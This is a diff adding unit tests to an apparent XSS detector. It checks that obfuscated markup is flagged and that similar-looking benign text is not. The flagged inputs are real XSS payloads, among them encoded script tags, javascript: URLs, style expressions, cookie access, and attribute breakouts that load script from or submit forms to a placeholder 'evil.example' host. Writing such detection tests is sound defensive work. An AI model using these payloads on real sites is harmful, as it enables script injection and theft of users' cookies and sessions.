@@ -91,6 +91,51 @@ describe('xssDetector', () => {
   });
 });
 
+describe('xssDetector on obfuscated markup', () => {
+  const inspect = (value: string, paranoia: Paranoia = 1) => xssDetector.inspect({ point: 'query.q', value, raw: value }, { paranoia });
+
+  it.each([
+    ['x<f o r m action=//evil>', 'xss/obfuscated-tag'],
+    ['$<d i a l o g open', 'xss/obfuscated-tag'],
+    ['< x: script', 'xss/obfuscated-tag'],
+    ['\uff1cscript\uff1ealert(1)\uff1c/script\uff1e', 'xss/script-tag'],
+    ['\u00bcscript\u00be\u00a2XSS\u00a2\u00bc/script\u00be', 'xss/us-ascii-markup'],
+    ['\\xbcscript\\xbealert(1)\\xbc/script\\xbe', 'xss/us-ascii-markup'],
+    ['\\xc2\\xbcimg\\xc2\\xbe', 'xss/us-ascii-markup'],
+    ['javascript:\\\\u0061lert', 'xss/script-url'],
+    ['javascript:a=1', 'xss/script-url'],
+    [' data: , <svg>', 'xss/script-url'],
+    ['<style>@\\\\69mport', 'xss/style-expression'],
+    ['<STYLE>=\\\\', 'xss/style-expression'],
+    ['<:vmlframe src=//evil/x.fml>', 'xss/embedded-object'],
+    ['(document/*x*/)["cookie"]', 'xss/script-expression'],
+    ["' onselect=$.getScript('//evil.example') '", 'xss/attribute-breakout'],
+    ["'formaction=//evil.example", 'xss/attribute-breakout'],
+  ])('given %j, when inspected at paranoia 1, then it is a %s hit', (payload, detector) => {
+    expect(inspect(payload)?.detector).toBe(detector);
+  });
+
+  it.each([
+    'if a < b and c > d',
+    'x < f or m',
+    'price < form factor',
+    'a < script kiddie',
+    '\u00bc cup of sugar, \u00be cup of milk',
+    'javascript: the good parts',
+    'data: 1, 2, 3',
+    'data: , <3 you',
+    '<3 \uff1cheart\uff1e',
+    "it's a \"srcdoc\" attribute",
+    'ratio 5:3 at 12:30',
+    'if a < b: image quality improves',
+    'a < x: svg',
+    '<style>.q{content:"\\201C"}</style>',
+    '<svg width="10" xlink:href="#icon"></svg>',
+  ])('given the benign %j, when inspected at paranoia 1, then there is no hit', (value) => {
+    expect(inspect(value)).toBeNull();
+  });
+});
+
 describe('xssDetector on adversarial input', () => {
   it.each([
     ['spaces', ' '.repeat(100000) + 'x='],
